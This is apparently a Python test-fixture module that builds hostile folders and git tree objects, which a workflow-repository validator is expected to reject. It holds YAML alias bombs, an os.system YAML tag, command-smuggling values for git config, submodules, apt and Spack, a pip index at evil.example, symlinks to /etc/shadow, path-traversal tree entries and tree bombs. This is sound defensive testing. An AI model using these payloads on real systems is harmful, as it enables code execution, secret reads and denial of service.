"""Trees that are made to hurt whoever reads them: as folders, and as commits.

Every one must be refused with a finding. ``FOLDERS`` fill an empty folder; ``COMMITS`` give the
tree object of a commit, written with git's plumbing where git itself would not write it.
"""

from __future__ import annotations

import os
import socket
import subprocess
from collections.abc import Callable, Mapping
from pathlib import Path

Content = bytes | str
TOPOLOGY = "w/tosca/topology.yaml"
ENVIRONMENT = "w/s/eflows4hpc.yaml"
SETTINGS = "w/waas.yaml"
RECIPE = "packages/x/package.py"
INVOCATION = "packages/x/x.json"
HEAD = "tosca_definitions_version: alien_dsl_3_0_0\ntopology_template:\n"
LAUGHS = "a0: &a0 [x, x]\n" + "".join(
    f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}, *a{n - 1}, *a{n - 1}]\n" for n in range(1, 40)
)
QUADRATIC = "a: &a [" + "x," * 2000 + "]\nb: [" + "*a," * 2000 + "]\n"
MERGES = "a0: &a0 {k: v}\n" + "".join(
    f"a{n}: &a{n} {{<<: [*a{n - 1}, *a{n - 1}], k{n}: *a{n - 1}}}\n" for n in range(1, 60)
)
SLOW_PATTERN = f"""{HEAD}  inputs:
    x: {{type: string, default: {"a" * 60}!, constraints: [pattern: "(a+)+$"]}}
  node_templates: {{}}
"""

EASYCONFIG = "name = 'x'\nversion = '1'\nhomepage = 'h'\ndescription = 'd'\ntoolchain = SYSTEM\n"
GOOD: Mapping[str, Content] = {TOPOLOGY: f"{HEAD}  node_templates: {{}}\n"}

FILES: Mapping[str, Mapping[str, Content]] = {
    # documents
    "aliases-without-end": {TOPOLOGY: LAUGHS},
    "aliases-squared": {ENVIRONMENT: QUADRATIC},
    "merge-keys-without-end": {TOPOLOGY: MERGES},
    "lists-100000-deep": {TOPOLOGY: "[" * 100_000},
    "mappings-100000-deep": {ENVIRONMENT: "{a: " * 100_000},
    "blocks-5000-deep": {TOPOLOGY: "".join(" " * n + "a:\n" for n in range(1500))},
    "json-100000-deep": {INVOCATION: "[" * 100_000},
    "objects-100000-deep": {INVOCATION: '{"a":' * 100_000},
    "number-of-a-million-digits": {SETTINGS: "title: [" + "9" * 1_000_000 + "]"},
    "json-number-of-a-million-digits": {INVOCATION: '{"execution": ' + "9" * 1_000_000 + "}"},
    "a-nul-byte": {TOPOLOGY: f"{HEAD}\0"},
    "not-utf-8": {TOPOLOGY: b"\xff\xfe\x00x"},
    "tags-that-construct": {TOPOLOGY: "a: !!python/object/apply:os.system [touch /tmp/x]"},
    "two-hundred-thousand-keys": {SETTINGS: "".join(f"k{n}: 1\n" for n in range(200_000))},
    "a-key-twice": {SETTINGS: "title: a\ntitle: b\n"},
    "a-thousand-documents": {TOPOLOGY: "---\na: 1\n" * 1000},
    "anchors-by-the-hundred-thousand": {TOPOLOGY: "".join(f"- &a{n} x\n" for n in range(150_000))},
    "aliases-of-a-long-text": {TOPOLOGY: f"a: &x {'y' * 800_000}\nb: [{'*x, ' * 60_000}]\n"},
    "nodes-of-two-thousand-unknown-types": {
        TOPOLOGY: f"{HEAD}  node_templates:\n"
        + "".join(
            f"    n{n}: {{type: hpcwaas.nodes.ContainerJob{n}, "
            f"requirements: [{{img_transfer{n}: m{n}}}]}}\n"
            for n in range(1000)
        )
    },
    "a-document-of-three-megabytes": {TOPOLOGY: "a: " + "x" * 3_000_000},
    "a-line-of-a-million-colons": {TOPOLOGY: "a: b: " * 200_000},
    "inputs-that-refer-to-each-other": {
        TOPOLOGY: f"{HEAD}  node_templates:\n    a: {{type: x, properties: "
        "{p: {get_property: [SELF, p]}}}\n"
    },
    "types-that-derive-from-each-other": {
        TOPOLOGY: f"{HEAD}  node_templates: {{n: {{type: a}}}}\n"
        "node_types:\n  a: {derived_from: b}\n  b: {derived_from: a}\n"
    },
    "a-pattern-that-takes-for-ever": {TOPOLOGY: SLOW_PATTERN},
    # names
    "a-name-that-is-an-option": {"w/--upload-pack=touch x": ""},
    "a-folder-that-is-an-option": {"-rf/s/eflows4hpc.yaml": ""},
    "a-name-with-a-line-break": {"w/s/a\n::error::b": ""},
    "a-name-with-escapes": {"w/s/\x1b]0;owned\x07": ""},
    "a-name-written-backwards": {"w/s/\u202egpj.sh": ""},
    "a-name-that-windows-keeps": {"w/s/CON": ""},
    "a-name-with-a-backslash": {"w/s/..\\..\\x": ""},
    "a-name-of-250-bytes": {"w/s/" + "n" * 250: ""},
    "names-that-differ-in-case": {"w/s/A": "", "w/s/a": ""},
    # git inside
    "a-bare-repository": {
        "w/s/repo/HEAD": "ref: refs/heads/main\n",
        "w/s/repo/objects/info/alternates": "/\n",
        "w/s/repo/refs/heads/main": "0" * 40,
        "w/s/repo/config": "[core]\n\tbare = false\n\tfsmonitor = touch /tmp/x\n",
    },
    "submodules-with-options": {
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = -u./payload\n'
    },
    "attributes-that-rewrite": {".gitattributes": "* filter=evil ident\n"},
    # environments
    "a-requirement-file-inside": {"w/s/requirements.txt": "-r /etc/passwd\n"},
    "a-requirement-from-a-file": {"w/s/requirements.txt": "x @ file:///etc/passwd\n"},
    "an-index-of-ones-own": {"w/s/requirements.txt": "--index-url http://evil.example/\n"},
    "an-option-for-apt": {ENVIRONMENT: "apt: ['-oAPT::Update::Pre-Invoke::=touch /tmp/x']\n"},
    "a-command-for-apt": {ENVIRONMENT: "apt: ['x; touch /tmp/x']\n"},
    "a-command-in-a-spec": {ENVIRONMENT: "spack: {specs: ['x@1 $(touch /tmp/x)']}\n"},
    "a-path-as-an-easyconfig": {ENVIRONMENT: "easybuild: ['../../etc/x.eb']\n"},
    "a-site-that-is-a-path": {SETTINGS: "sites: ['../../etc']\n"},
    # code
    "a-recipe-that-runs": {
        RECIPE: "import os\nos.system('touch /tmp/x')\n\n\nclass X(Package):\n"
        f"    version('1', sha256='{'a' * 64}')\n"
    },
    "parentheses-100000-deep": {RECIPE: "(" * 100_000},
    "a-sum-of-100000-terms": {RECIPE: "x = " + "1+" * 100_000 + "1\n"},
    "minus-100000-times": {RECIPE: "x = " + "-" * 100_000 + "1\n"},
    "attributes-100000-deep": {RECIPE: "x = a" + ".a" * 100_000 + "\n"},
    "an-easyconfig-that-runs": {"packages/x/x.eb": f"{EASYCONFIG}import os\nos.system('x')\n"},
    "an-easyconfig-of-huge-powers": {"packages/x/x.eb": f"{EASYCONFIG}x = 9**9**9**9\n"},
    "an-easyconfig-of-huge-texts": {"packages/x/x.eb": f"{EASYCONFIG}x = 'a' * 10**12\n"},
    "a-script-of-open-brackets": {"w/s/post_inst.sh": "#!/bin/bash\n" + "$((" * 100_000},
    "a-script-that-never-ends": {"w/s/post_inst.sh": "#!/bin/bash\nif " + "{ " * 50_000},
    "code-written-backwards": {"w/s/src/a.py": 'x = "\u202e \u2066# admin\u2069 \u2066"\n'},
    "a-program": {"w/s/tool": b"\x7fELF\x02\x01\x01" + b"\0" * 100},
    "a-private-key": {
        "w/s/key": "-----BEGIN OPENSSH PRIVATE KEY-----\n"
        + "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n" * 20
        + "-----END OPENSSH PRIVATE KEY-----\n"
    },
}  # fmt: skip


def _link(target: str, name: str) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).symlink_to(target)

    return make


def _fifo(folder: Path) -> None:
    (folder / "w").mkdir()
    os.mkfifo(folder / TOPOLOGY.rpartition("/")[2])


def _socket(folder: Path) -> None:
    here = os.open(folder, os.O_RDONLY)
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(f"/proc/self/fd/{here}/s")
    os.close(here)


def _sparse(folder: Path) -> None:
    (folder / TOPOLOGY).parent.mkdir(parents=True)
    with (folder / TOPOLOGY).open("wb") as file:
        file.truncate(3 * 2**30)


def _deep(folder: Path) -> None:
    here = os.open(folder, os.O_RDONLY)
    for _ in range(600):  # beyond the longest path
        os.mkdir("deeper-and-deeper", dir_fd=here)
        inner = os.open("deeper-and-deeper", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = inner
    os.close(os.open("file", os.O_CREAT | os.O_WRONLY, dir_fd=here))
    os.close(here)


def _not_utf8(folder: Path) -> None:
    (folder / "w").mkdir()
    (Path(os.fsdecode(os.fsencode(folder / "w") + b"/\xff"))).write_text("")


def _files(files: Mapping[str, Content]) -> Callable[[Path], None]:
    def make(folder: Path) -> None:
        alone = any(name.startswith("packages/") for name in files)  # a catalogue
        for name, content in (files if alone else {**GOOD, **files}).items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)

    return make


INNOCENT = "nothing-wrong"
FOLDERS: Mapping[str, Callable[[Path], None]] = {
    INNOCENT: _files({}),
    **{name: _files(files) for name, files in FILES.items()},
    "a-link-to-a-secret": _link("/etc/shadow", "w/s/key"),
    "a-link-out-of-the-tree": _link("../../../..", "w/s"),
    "a-link-to-everything": _link("/", "w"),
    "a-link-to-itself": _link("w", "w"),
    "settings-that-are-a-link": _link("/etc/shadow", SETTINGS),
    "a-topology-that-never-ends": _link("/dev/zero", TOPOLOGY),
    "a-pipe": _fifo,
    "a-socket": _socket,
    "three-gigabytes-of-nothing": _sparse,
    "six-hundred-folders-deep": _deep,
    "a-name-that-is-no-text": _not_utf8,
}


class Plumbing:
    """Writes objects into a bare repository, however odd."""

    def __init__(self, git_dir: Path) -> None:
        self.git_dir = git_dir
        subprocess.run(["git", "init", "--quiet", "--bare", str(git_dir)], check=True)
        self.base = self.commit(self.tree(b""))

    def git(self, *arguments: str, stdin: bytes = b"") -> str:
        people = {f"GIT_{who}_{what}": "a@b" for who in ("AUTHOR", "COMMITTER")
                  for what in ("NAME", "EMAIL")}  # fmt: skip
        environment = {"PATH": os.environ["PATH"], "GIT_CONFIG_NOSYSTEM": "1", **people}
        done = subprocess.run(
            ["git", "--git-dir", str(self.git_dir), *arguments],
            input=stdin,
            capture_output=True,
            check=True,
            env=environment,
        )
        return done.stdout.decode().strip()

    def blob(self, content: bytes) -> str:
        return self.git("hash-object", "-w", "--stdin", stdin=content)

    def tree(self, content: bytes) -> str:
        return self.git("hash-object", "-t", "tree", "-w", "--stdin", "--literally", stdin=content)

    def commit(self, tree: str) -> str:
        parent = ["-p", self.base] if hasattr(self, "base") else []
        return self.git("commit-tree", "-m", "made", *parent, tree)


def item(mode: str, name: bytes, target: str) -> bytes:
    """A line of a tree object."""
    return mode.encode() + b" " + name + b"\0" + bytes.fromhex(target)


def _nested(git: Plumbing, inner: str, wide: int, deep: int) -> str:
    for _ in range(deep):
        inner = git.tree(b"".join(item("40000", b"d%02d" % n, inner) for n in range(wide)))
    return inner


def _one(mode: str, name: bytes) -> Callable[[Plumbing], str]:
    return lambda git: git.tree(item(mode, name, git.blob(b"x")))


def _bomb(git: Plumbing) -> str:
    files = git.tree(b"".join(item("100644", b"f%d" % n, git.base) for n in range(10)))
    return _nested(git, files, 10, 11)


def _inside(git: Plumbing, *names: bytes, content: bytes = b"x", mode: str = "100644") -> str:
    made, kind = git.blob(content), mode
    for name in reversed(names):
        made, kind = git.tree(item(kind, name, made)), "40000"
    return made


def _two_hundred_thousand(git: Plumbing) -> str:
    blob = git.blob(b"x")
    return git.tree(b"".join(item("100644", b"%06d" % n, blob) for n in range(200_000)))


def _many_deep(git: Plumbing, wide: int, deep: int) -> str:
    inner = _nested(git, git.tree(b""), 1, deep)
    return git.tree(b"".join(item("40000", b"%06d" % n, inner) for n in range(wide)))


def _missing(git: Plumbing) -> str:
    topology = git.tree(item("100644", b"topology.yaml", "1" * 40))
    return git.tree(item("40000", b"w", git.tree(item("40000", b"tosca", topology))))


COMMITS: Mapping[str, Callable[[Plumbing], str]] = {
    "a-tree-of-10-to-the-12-files": _bomb,
    "a-tree-of-10-to-the-13-empty-folders": lambda git: _nested(git, git.tree(b""), 20, 10),
    "ninety-thousand-times-thirty-folders": lambda git: _many_deep(git, 90_000, 30),
    "two-hundred-folders-deep": lambda git: _nested(git, git.tree(b""), 1, 200),
    "two-hundred-thousand-files": _two_hundred_thousand,
    "a-name-with-a-slash": _one("100644", b"../../etc/cron.d/x"),
    "a-name-of-two-dots": _one("100644", b".."),
    "an-empty-name": _one("100644", b""),
    "a-name-of-100000-bytes": _one("100644", b"n" * 100_000),
    "a-name-twice": lambda git: git.tree(item("100644", b"a", git.blob(b"x")) * 2),
    "an-unknown-mode": _one("170000", b"a"),
    "a-submodule": lambda git: git.tree(item("160000", b"m", "2" * 40)),
    "a-file-that-is-not-there": _missing,
    "a-folder-that-is-a-file": _one("40000", b"a"),
    "a-damaged-folder": lambda git: git.tree(b"100644 a\0short"),
    "a-repository-in-the-tree": lambda git: _inside(git, b"docs", b".git", b"config"),
    "a-repository-for-windows": lambda git: _inside(git, b"docs", b"git~1", b"config"),
    "a-repository-in-capitals": lambda git: _inside(git, b"docs", b".GIT", b"config"),
    "a-repository-for-macos": lambda git: _inside(git, b".g\xe2\x80\x8cit", b"config"),
    "a-link-in-a-commit": lambda git: _inside(
        git, b"docs", b"a", content=b"/etc/shadow", mode="120000"
    ),
    "a-link-of-a-megabyte": lambda git: _inside(
        git, b"docs", b"l", content=b"../" * 350_000, mode="120000"
    ),
    "forty-megabytes-of-zeros": lambda git: _inside(
        git, b"w", b"tosca", b"topology.yaml", content=b"\0" * 40 * 2**20
    ),
}
